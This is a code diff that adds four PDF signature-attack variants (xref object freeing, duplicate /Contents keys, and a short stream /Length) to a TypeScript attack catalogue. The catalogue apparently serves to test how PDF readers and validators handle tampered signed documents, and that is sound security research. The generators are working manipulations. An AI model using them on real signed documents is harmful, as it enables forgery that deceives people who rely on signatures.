@@ -357,6 +357,70 @@ export const ATTACKS: AttackClass[] = [
     kind: always,
     make: (ctx) => generationBump(ctx),
   },
+  {
+    id: 'free-overlay',
+    family: 'xref tricks',
+    description:
+      'the update only marks the overlay object 31 free in its xref: the page /Contents entry becomes null and the line it hid shows',
+    kind: always,
+    make: (ctx) => appendUpdate(ctx.signed, { xref: xrefOf(ctx.variant), frees: [OBJ.overlay] }),
+  },
+  {
+    id: 'duplicate-key-contents',
+    family: 'xref tricks',
+    description:
+      'the page is redefined with two /Contents keys: the signed array first, then one with a cover stream (MuPDF keeps the last key)',
+    kind: always,
+    make: (ctx) => {
+      const cover = fresh(ctx.signed);
+      const page = currentBody(ctx.signed, OBJ.page);
+      const signedContents = /\/Contents\s*\[[^\]]*\]/.exec(page)?.[0];
+      if (!signedContents) throw new Error('no /Contents array');
+      const dup = page.replace(
+        signedContents,
+        `${signedContents} /Contents [${ref(OBJ.content)} ${ref(OBJ.overlay)} ${ref(cover)}]`,
+      );
+      return update(ctx, [
+        { num: cover, body: stream('', COVER) },
+        { num: OBJ.page, body: dup },
+      ]);
+    },
+  },
+  {
+    id: 'duplicate-key-contents-first',
+    family: 'xref tricks',
+    description:
+      'as duplicate-key-contents with the order reversed: the cover array first, the signed array last (a reader keeping the first key sees it)',
+    kind: always,
+    make: (ctx) => {
+      const cover = fresh(ctx.signed);
+      const page = currentBody(ctx.signed, OBJ.page);
+      const signedContents = /\/Contents\s*\[[^\]]*\]/.exec(page)?.[0];
+      if (!signedContents) throw new Error('no /Contents array');
+      const dup = page.replace(
+        signedContents,
+        `/Contents [${ref(OBJ.content)} ${ref(OBJ.overlay)} ${ref(cover)}] ${signedContents}`,
+      );
+      return update(ctx, [
+        { num: cover, body: stream('', COVER) },
+        { num: OBJ.page, body: dup },
+      ]);
+    },
+  },
+  {
+    id: 'stream-length-short',
+    family: 'xref tricks',
+    description:
+      'the content stream redefined with its signed data and /Length of the signed data, followed by more operators before endstream (a reader that searches for endstream draws them)',
+    kind: always,
+    make: (ctx) => {
+      const body = concat(
+        latin1(`<< /Length ${CONTENT.length} >>\nstream\n${CONTENT}\n${COVER}\n`),
+        latin1('endstream'),
+      );
+      return update(ctx, [{ num: OBJ.content, body }]);
+    },
+  },
   // SWA: signature wrapping (CCS 2019)
   {
     id: 'swa-byterange-moved',
